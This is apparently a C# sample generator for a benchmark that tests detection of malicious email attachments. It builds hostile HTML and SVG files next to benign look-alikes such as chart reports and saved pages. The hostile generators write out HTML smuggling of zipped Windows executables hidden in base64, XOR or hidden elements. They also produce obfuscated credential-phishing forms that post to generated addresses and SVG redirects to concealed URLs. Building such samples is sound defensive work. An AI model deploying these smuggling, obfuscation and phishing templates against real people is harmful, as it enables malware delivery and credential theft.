using System.Globalization;
using System.Text;
using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Documents;

/// <summary>Attached pages and drawings that hand over files, write other pages, lead on or ask; and the reports, saved pages and drawings that people send.</summary>
internal sealed class Pages : ISampleKind
{
    private static readonly AttackType[] Types = [AttackType.Behaviour, AttackType.MaliciousUrl, AttackType.CredentialPhishing];

    public string Name => "page";

    public IEnumerable<Sample> Make(Random random)
    {
        yield return Hostile("file built by script", "html", Page(random, $"<script>{Smuggler(random)}</script>"), "html-smuggling", "behaviour-smuggle", "archive-with-executable");
        yield return Hostile("file kept in an element", "html", Page(random, KeptInElement(random)), "html-smuggling", "behaviour-smuggle", "archive-with-executable");
        yield return Hostile("page written by script", "html", Page(random, $"<script>{Written(random, Form(random))}</script>"), "html-obfuscated-script", "behaviour-ask-credential", "credential-form-attachment");
        yield return Hostile("page in an address", "html", Page(random, $"<iframe style=\"width:100%;height:100%\" src=\"data:text/html;base64,{Convert.ToBase64String(Encoding.UTF8.GetBytes($"<html><body>{Form(random)}</body></html>"))}\"></iframe>"), "credential-form-attachment", "html-nested-page", "behaviour-ask-credential");
        yield return Hostile("drawing that leads on", "svg", $"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"600\" height=\"400\"><text x=\"10\" y=\"20\">{random.Word()}</text><script><![CDATA[{random.Pick(["window.location.href", "location", "top.location.href"])} = {Concealed(random, random.Address())};]]></script></svg>", "svg-script", "behaviour-redirect");
        yield return Hostile("drawing that is a page", "svg", $"<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"100%\" height=\"100%\"><body xmlns=\"http://www.w3.org/1999/xhtml\">{Form(random)}</body></foreignObject></svg>", "svg-page", "credential-form-attachment", "behaviour-ask-credential");
        yield return Hostile("page that asks", "html", Page(random, Form(random)), "credential-form-attachment", "behaviour-ask-credential");

        yield return Benign("report with charts", "html", Page(random, Charts(random)));
        yield return Benign("report with its library", "html", Page(random, $"<script>{Library(random)}</script><div id=\"{random.Word()}\"></div><script>Plot.newPlot('{random.Word()}', [{{x: [{Numbers(random, 80)}], y: [{Numbers(random, 80)}]}}]);</script>"));
        yield return Benign("page with a button that saves", "html", Page(random, $"<table><tr><td>{random.Word()}</td><td>{random.Next(900)}</td></tr></table><button onclick=\"save()\">CSV</button><script>function save() {{ var rows = document.querySelectorAll('tr'); var csv = ''; rows.forEach(function (r) {{ csv += r.innerText + '\\n'; }}); var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([csv], {{type: 'text/csv'}})); a.download = '{random.Word()}.csv'; a.click(); }}</script>"));
        yield return Benign("saved page", "html", $"<!DOCTYPE html>\n<!-- saved from url=(0031)https://www.northpine.example/ -->\n{Page(random, $"<nav><a href=\"https://www.northpine.example/{random.Word()}\">{random.Word()}</a></nav><script>(function(w,d,s,l){{w[l]=w[l]||[];w[l].push({{'start':new Date().getTime()}});var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src='https://www.northpine.example/a.js';f.parentNode.insertBefore(j,f);}})(window,document,'script','layer');</script><script>var c = decodeURIComponent(document.cookie); if (c.indexOf('{random.Word()}') >= 0) document.documentElement.className = '{random.Word()}';</script><img src=\"data:image/png;base64,{Convert.ToBase64String([0x89, .. "PNG\r\n\x1a\n"u8, .. random.Bytes(900)])}\">")}");
        yield return Benign("notebook of a calculation", "html", Page(random, $"<script src=\"https://cdnjs.cloudflare.com/ajax/libs/require.js/2.1.10/require.min.js\"></script><div class=\"cell\"><pre>import pandas as pd</pre></div><img src=\"data:image/png;base64,{Convert.ToBase64String([0x89, .. "PNG\r\n\x1a\n"u8, .. random.Bytes(3_000)])}\"><script type=\"text/x-mathjax-config\">MathJax.Hub.Config({{tex2jax: {{inlineMath: [['$','$']]}}}});</script><script>{Library(random)}</script>"));
        yield return Benign("drawing that answers the mouse", "svg", $"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"init(evt)\"><script type=\"text/ecmascript\"><![CDATA[var details; function init(evt) {{ details = document.getElementById('details'); var params = window.location.search.substr(1).split('&'); }} function s(info) {{ details.textContent = 'Function: ' + info; }} function zoom(n) {{ n.setAttribute('width', parseInt(n.getAttribute('width')) * 2); }}]]></script><g onmouseover=\"s('{random.Word()}')\"><rect width=\"{random.Next(900)}\" height=\"15\"/></g><text id=\"details\" x=\"10\" y=\"390\"/></svg>");
        yield return Benign("drawing", "svg", $"<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 100 100\"><path d=\"M{random.Next(90)} {random.Next(90)}L{random.Next(90)} {random.Next(90)}\"/></svg>");

        Sample Hostile(string name, string extension, string markup, params string[] reasons) =>
            Sample.Hostile(name, SampleMail.With(random, SampleFile.Text($"{random.DocumentName()}.{extension}", markup, extension == "svg" ? "image/svg+xml" : "text/html")), Types, reasons);

        Sample Benign(string name, string extension, string markup) =>
            Sample.Benign(name, SampleMail.With(random, SampleFile.Text($"{random.DocumentName()}.{extension}", markup, extension == "svg" ? "image/svg+xml" : "text/html")));
    }

    private static string Page(Random random, string body) => $"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>{random.Word()}</title></head><body><h1>{random.Word()} {random.Word()}</h1>{body}</body></html>";

    private static string Form(Random random) =>
        $"<form action=\"{random.Address(".php")}\" method=\"post\"><p>{random.Pick(["Sign in to open the document", "ログインして書類を表示", "Session expired, please sign in"])}</p><input type=\"text\" name=\"{random.Word()}\"><input type=\"{random.Pick(["password", "Password"])}\" name=\"{random.Word()}\"><button>{random.Pick(["Open", "次へ", "Continue"])}</button></form>";

    // A file as it lies in the script: whole, turned by a key, or as numbers.
    private static string Smuggler(Random random)
    {
        var archive = ZipOf.Files(new SampleFile($"{random.DocumentName()}.exe", ProgramOf.Windows(random)));
        string data = random.Word(), bytes = random.Word(), link = random.Word();
        var key = random.Next(1, 255);
        var load = random.Next(3) switch
        {
            0 => $"var {data} = atob('{Convert.ToBase64String(archive)}'); var {bytes} = new Uint8Array({data}.length); for (var i = 0; i < {data}.length; i++) {bytes}[i] = {data}.charCodeAt(i);",
            1 => $"var {data} = atob('{Convert.ToBase64String(Array.ConvertAll(archive, octet => (byte)(octet ^ key)))}'); var {bytes} = new Uint8Array({data}.length); for (var i = 0; i < {data}.length; i++) {bytes}[i] = {data}.charCodeAt(i) ^ {key};",
            _ => $"var {data} = [{string.Join(",", archive)}]; var {bytes} = new Uint8Array({data});",
        };
        return $"{load} var {link} = document.createElement('a'); {link}.href = URL.createObjectURL(new Blob([{bytes}], {{type: 'application/octet-stream'}})); {link}.download = '{random.DocumentName()}.zip'; document.body.appendChild({link}); {link}.click();";
    }

    private static string KeptInElement(Random random)
    {
        var archive = ZipOf.Files(new SampleFile($"{random.DocumentName()}.exe", ProgramOf.Windows(random)));
        string id = random.Word(), text = random.Word();
        return $"<div id=\"{id}\" style=\"display:none\">{Convert.ToBase64String(archive)}</div><script>var {text} = atob(document.getElementById('{id}').innerText); var b = new Uint8Array({text}.length); for (var i = 0; i < b.length; i++) b[i] = {text}.charCodeAt(i); var l = document.createElement('a'); l.href = URL.createObjectURL(new Blob([b])); l.setAttribute('download', '{random.Word()}.zip'); l.click();</script>";
    }

    private static string Written(Random random, string markup) => random.Next(3) switch
    {
        0 => $"document.write(unescape('{string.Concat(markup.Select(character => character < 128 ? $"%{(int)character:x2}" : $"%u{(int)character:x4}"))}'));",
        1 => $"document.write(decodeURIComponent(escape(atob('{Convert.ToBase64String(Encoding.UTF8.GetBytes(markup))}'))));",
        _ => $"var {random.Word()} = '', k = [{string.Join(",", markup.Select(character => (character + 7).ToString(CultureInfo.InvariantCulture)))}], o = ''; for (var i = 0; i < k.length; i++) o += String.fromCharCode(k[i] - 7); document.body.innerHTML = o;",
    };

    private static string Concealed(Random random, string address) => random.Next(3) switch
    {
        0 => $"atob('{Convert.ToBase64String(Encoding.ASCII.GetBytes(address))}')",
        1 => string.Join(" + ", address.Chunk(random.Next(3, 9)).Select(part => $"'{new string(part)}'")),
        _ => $"String.fromCharCode({string.Join(",", address.Select(character => (int)character))})",
    };

    private static string Charts(Random random) =>
        $"<script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script><canvas id=\"{random.Word()}\"></canvas><script>var data = [{Numbers(random, 300)}]; new Chart(document.querySelector('canvas'), {{type: 'bar', data: {{labels: ['{random.Word()}'], datasets: [{{data: data}}]}}}});</script>";

    private static string Numbers(Random random, int count) => string.Join(",", Enumerable.Range(0, count).Select(_ => random.Next(100_000) / 10.0).Select(value => value.ToString(CultureInfo.InvariantCulture)));

    // All the calls of a smuggler, and a hundred kilobytes of others.
    private static string Library(Random random)
    {
        var library = new StringBuilder("var Plot=(function(){");
        for (var index = 0; index < 900; index++)
            library.Append(CultureInfo.InvariantCulture, $"function {random.Word()}{index}(a,b){{if(!a)return b;for(var i=0;i<a.length;i++){{b[i]=a[i]*{random.Next(99)}+parseInt(b[i]||0,10);}}return b}}");
        library.Append("function save(c){var s=atob(c.split(',')[1]),u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([u]));l.download='plot.png';l.click()}return {newPlot:function(id,d){},toImage:save}})();");
        return library.ToString();
    }
}
